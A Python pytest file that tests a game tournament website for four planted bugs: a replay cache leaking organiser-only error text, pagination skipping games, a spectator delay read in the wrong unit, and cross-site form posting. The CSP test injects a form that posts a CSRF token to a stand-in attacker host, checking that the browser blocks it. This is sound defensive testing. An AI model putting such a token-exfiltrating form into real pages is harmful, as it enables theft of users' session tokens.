"""Tests that catch the site's bugs that the earlier tests let through (issue 46: a sample of four planted bugs,
none caught): the replay cache serving one reader's view to another, a form posted off the site, the entrant
page's "older" link skipping a game, and the spectator delay read in the wrong unit. Each was planted by hand and
seen to fail its test."""

from __future__ import annotations

import re
import time
from pathlib import Path

import pytest

from referee.store import open_store
from tests.service.helpers import ALICE, ORGANISER, start_bot

from .conftest import save_tournament
from .site import get, slow_game_in_play, start_site
from .test_site_sessions import _sign_in


@pytest.fixture(scope="module")
def served(tmp_path_factory):
    """Five entrants two to a table (60 games, 24 per entrant) on a site of 5 rows a page."""
    root = tmp_path_factory.mktemp("planted")
    data, tid = save_tournament(root / "data", ("ada", "bob", "cyd", "dee", "eve"), table_size=2, deals=3)
    site = start_site(data, root, extra_settings="[http]\npage_size = 5\n")
    with open_store(data) as store:
        games = store.games(tid)
    yield site, tid, games
    site.stop()


def test_a_replay_an_organiser_opened_is_not_served_to_a_visitor_or_an_author(served) -> None:
    """The replay of a game with a timed-out seat: its fault detail (the bot's own error text) is the organiser's
    to read. Opened by the organiser first, the same game must still reach anyone else without it."""
    site, _tid, games = served
    faulted = next(g for g in games if g.slot == 1)  # conftest.FAULTS: seat 0 times out
    url = f"{site.url}/g/{faulted.game_id}"
    detail = "no answer within 1000 ms"
    assert detail in get(url, {"cookie": _sign_in(site, ORGANISER)})[2]
    visitor = get(url)[2]
    assert 'id="game-data"' in visitor and detail not in visitor
    assert detail not in get(url, {"cookie": _sign_in(site, ALICE)})[2]


def test_the_entrant_pages_older_links_reach_every_game_once(served) -> None:
    site, tid, games = served
    mine = [g.game_id for g in sorted(games, key=lambda g: -g.slot) if "bob" in g.names]
    path, seen = f"/t/{tid}/e/bob", []
    while path:
        body = get(site.url + path)[2]
        table = body.split("<h2>Recent games", 1)[-1]
        seen += list(dict.fromkeys(re.findall(r'href="/g/([^"#?]+)"', table)))
        older = re.search(r'href="(/t/[^"]+/e/bob\?before=\d+)"', body)
        path = older[1].replace("&amp;", "&") if older else ""
    assert seen == mine  # latest first, none skipped, none twice


def test_a_form_put_into_a_page_cannot_post_to_another_site(served, page_for) -> None:
    """Were a page ever to carry an attacker's form (markup slipped past the escaping), the CSP's form-action
    keeps it from posting the reader's CSRF token anywhere but the site."""
    site, tid, _ = served
    page = page_for()
    page.goto(f"{site.url}/t/{tid}")
    violated = page.evaluate(
        """() => new Promise(resolve => {
            document.addEventListener('securitypolicyviolation', e => resolve(e.violatedDirective));
            const form = document.createElement('form');
            form.method = 'post';
            form.action = 'http://attacker.invalid/steal';
            const field = document.createElement('input');
            field.name = 'csrf';
            field.value = 'the-readers-token';
            form.appendChild(field);
            document.body.appendChild(form);
            form.submit();
            setTimeout(() => resolve('none'), 5000);
        })"""
    )
    assert violated == "form-action"
    assert not [u for u in page.requests if "attacker.invalid" in u]


def test_a_game_in_play_shows_its_moves_a_spectator_delay_behind(tmp_path: Path) -> None:
    """A slow bot's game, with a spectator delay of 1.5 s: its moves reach the page (read in seconds, the delay
    would hide them for 25 minutes) and none younger than the delay."""
    slow = start_bot("bad:slow", "--delay-ms", "250")
    site = start_site(tmp_path / "data", tmp_path, delay_ms=1500)
    try:
        organiser = {"cookie": _sign_in(site, ORGANISER)}  # the deal is still to be played: organisers see it
        asked = time.monotonic()  # before the tournament is created: its first move is made after this
        _, game_id = slow_game_in_play(site, slow.address)
        while True:
            body = get(f"{site.url}/g/{game_id}", organiser)[2]
            if 'class="events"' in body and "<li" in body.split('class="events"', 1)[1]:
                break
            assert "in play" in body, "the game ended and its page never showed a move"
            time.sleep(0.1)
        # the first move shown is at least the delay old, and it was made after ``asked`` (a bound that holds
        # however late a loaded machine lets this test see the game in play; with no delay it fails on a machine
        # that starts the game within the delay)
        assert time.monotonic() - asked >= 1.5
    finally:
        site.stop()
        slow.stop()
